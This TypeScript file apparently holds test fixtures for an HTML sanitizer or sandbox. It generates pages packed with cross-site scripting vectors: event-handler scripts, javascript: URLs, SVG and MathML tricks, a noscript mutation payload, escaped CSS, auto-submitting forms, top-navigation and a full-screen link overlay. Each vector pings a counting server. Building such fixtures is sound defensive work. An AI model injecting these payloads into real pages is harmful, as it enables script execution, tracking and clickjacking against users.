/** Pages with attacks. An attack that succeeds sends a request to a server that counts requests. */

/** The attack vectors, each with a separate path at `beacon`. A script that runs would mark the application, or every window that it reaches. */
export function hostilePage(beacon: string): string {
  const to = (what: string): string => `${beacon}/${what}`;
  const mark = (what: string): string =>
    `try{top.ran='${what}'}catch{};try{parent.parent.document.title='${what}'}catch{};new Image().src='${to(what)}'`;
  return `<!doctype html><html><head>
<title>Hostile</title>
<base href="${to('base/')}">
<meta http-equiv="refresh" content="0;url=${to('refresh')}">
<link rel="stylesheet" href="${to('stylesheet')}"><link rel="icon" href="${to('icon')}">
<link rel="prefetch" href="${to('prefetch')}"><link rel="preload" as="image" href="${to('preload')}">
<link rel="manifest" href="${to('manifest')}"><link rel="modulepreload" href="${to('modulepreload')}">
<style>@import "${to('import')}"; @font-face{font-family:f;src:url(${to('font')})}
body{background:url(${to('css')});font-family:f}
li{list-style-image:url(${to('list')})} p::after{content:url(${to('content')})} b{background:u\\72l(${to('escaped')})}</style>
<script>${mark('script')}</script><script src="${to('script-src')}"></script><script type="module">import '${to('module')}'</script>
</head><body onload="${mark('onload')}" background="${to('background')}">
<b>escaped</b><p>content</p><ul><li>list</li></ul>
<img src="x" onerror="${mark('onerror')}"><img src="${to('img')}" srcset="${to('srcset')} 2x"><img src="relative.png">
<picture><source srcset="${to('source')}"><img src="${to('picture')}"></picture>
<svg xmlns="http://www.w3.org/2000/svg" onload="${mark('svg-onload')}"><script>${mark('svg-script')}</script>
<image href="${to('svg-image')}"/><use href="${to('svg-use')}#a"/><rect width="9" height="9" fill="url(${to('svg-fill')}#a)"/>
<animate href="#a" attributeName="href" values="javascript:alert(1)"/><foreignObject><iframe src="${to('svg-frame')}"></iframe></foreignObject></svg>
<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.ran=1"><image href="${to('nested')}"/><script>top.ran=1</script></svg>`)}">
<iframe src="${to('frame')}"></iframe><iframe srcdoc="<script>top.ran='srcdoc'</script><img src='${to('srcdoc')}'>"></iframe>
<iframe src="javascript:top.ran='js-frame'"></iframe><iframe src="/"></iframe>
<object data="${to('object')}"></object><embed src="${to('embed')}"><applet code="${to('applet')}"></applet>
<video src="${to('video')}" poster="${to('poster')}" autoplay></video><audio src="${to('audio')}" autoplay></audio>
<form id="f" action="${to('form')}" method="post"><input name="q" value="1" autofocus onfocus="${mark('onfocus')}"><button>Go</button></form>
<input type="image" src="${to('input')}" form="f" formaction="${to('formaction')}">
<details open ontoggle="${mark('ontoggle')}"><summary>x</summary></details>
<math><mi xlink:href="javascript:top.ran='math'">x</mi></math>
<noscript><p title="</noscript><img src=x onerror=${mark('noscript')}>"></noscript>
<template shadowrootmode="open"><img src="${to('shadow')}"></template>
<script>document.forms[0].submit();window.open('${to('open')}');top.location='${to('top')}'</script>
<a href="${to('link')}" ping="${to('ping')}" target="_top" style="position:fixed;inset:0;z-index:9">A link over everything</a>
</body></html>`;
}

/** Reveals a reader to a stranger without a fetch: no policy forbids it, so it is removed. */
export const hints = (beacon: string): string =>
  `<link rel="preconnect" href="${beacon}"><link rel="dns-prefetch" href="${beacon}"><p>Hints</p>`;

/** Links that would navigate the frame, its parent or the whole tab, or run a script. */
export const links = (beacon: string): readonly string[] =>
  ['', '_self', '_parent', '_top', '_blank', 'held']
    .map((target) => `<a href="${beacon}/link-${target}" ping="${beacon}/ping" target="${target}"`)
    .concat(
      `<a href="javascript:top.ran='link'"`,
      '<a href="/r/k7mq-2x9d-htw4-e0vn"',
      `<a href="//${beacon.slice(7)}/relative"`,
    )
    .map((tag) => `<!doctype html>${tag} style="position:fixed;inset:0;background:#dde">Click</a>`);
